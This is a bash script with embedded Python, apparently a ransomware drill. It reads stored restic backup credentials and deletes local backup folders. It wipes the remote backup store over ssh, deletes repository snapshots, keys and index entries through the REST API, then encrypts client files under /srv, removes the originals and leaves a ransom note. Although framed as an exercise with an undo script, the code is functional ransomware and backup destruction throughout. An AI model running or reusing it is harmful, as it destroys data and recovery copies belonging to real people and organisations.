#!/bin/bash
# srv: the ransomware, as root. First whatever could bring the data back and the credentials found
# here can destroy, then the data. Short: it is dated by when it begins and ends.
set -euo pipefail

python3 - <<'PY'
import hashlib
import json
import os
import shutil
import subprocess
import urllib.request
from pathlib import Path
from urllib.parse import urlsplit

STATE = Path("/var/lib/pcapra")
client = os.environ["PCAPRA_CLIENT"]
site = Path("/srv") / client
ENDING = ".verrou"


def rest(method, path=""):
    """A request to the REST repository with the credentials in its file: status and body."""
    url = urlsplit(Path("/root/.restic-rest").read_text().strip().removeprefix("rest:"))
    target = f"{url.scheme}://{url.hostname}:{url.port}{url.path.rstrip('/')}/{path}"
    manager = urllib.request.HTTPPasswordMgrWithDefaultRealm()
    manager.add_password(None, target, url.username, url.password)
    opener = urllib.request.build_opener(
        urllib.request.ProxyHandler({}), urllib.request.HTTPBasicAuthHandler(manager)
    )
    request = urllib.request.Request(
        target, method=method, headers={"Accept": "application/vnd.x.restic.rest.v2"}
    )
    with opener.open(request, timeout=20) as answer:
        return json.loads(answer.read() or b"null")


kept = [one["name"] for one in rest("GET", "snapshots/")]
STATE.mkdir(mode=0o700, exist_ok=True)
(STATE / "rancon.json").write_text(json.dumps(kept))

shutil.rmtree("/sauvegarde", ignore_errors=True)
shutil.rmtree("/var/backups/restic", ignore_errors=True)
subprocess.run(
    [
        "ssh", "-o", "BatchMode=yes", "-o", "ConnectTimeout=10", "restic@sauvegarde",
        "rm -rf /srv/restic/srv",
    ],
    check=False, capture_output=True, timeout=60,
)  # fmt: skip
for folder in ("snapshots/", "keys/", "index/"):
    for name in [one["name"] for one in rest("GET", folder)][:20]:
        try:
            rest("DELETE", folder + name)
        except OSError:
            # 403: what the step is about.
            continue


def stream(path, length):
    """The drill's own cipher: what setup/rancon-retiree.sh can undo."""
    seed = f"{os.environ['PCAPRA_JETON']} {path}".encode()
    return hashlib.shake_256(seed).digest(length)


for path in sorted(site.rglob("*")):
    if path.is_symlink() or not path.is_file() or path.suffix == ENDING:
        continue
    clear = path.read_bytes()
    mixed = int.from_bytes(clear, "big") ^ int.from_bytes(stream(path, len(clear)), "big")
    locked = path.with_name(path.name + ENDING)
    locked.write_bytes(mixed.to_bytes(len(clear), "big"))
    status = path.stat()
    os.chown(locked, status.st_uid, status.st_gid)
    shutil.copystat(path, locked)
    path.unlink()
(site / "LISEZ-MOI-RANCON.txt").write_text(
    "Vos fichiers sont chiffrés, vos sauvegardes sont détruites. Payez.\n"
)
PY
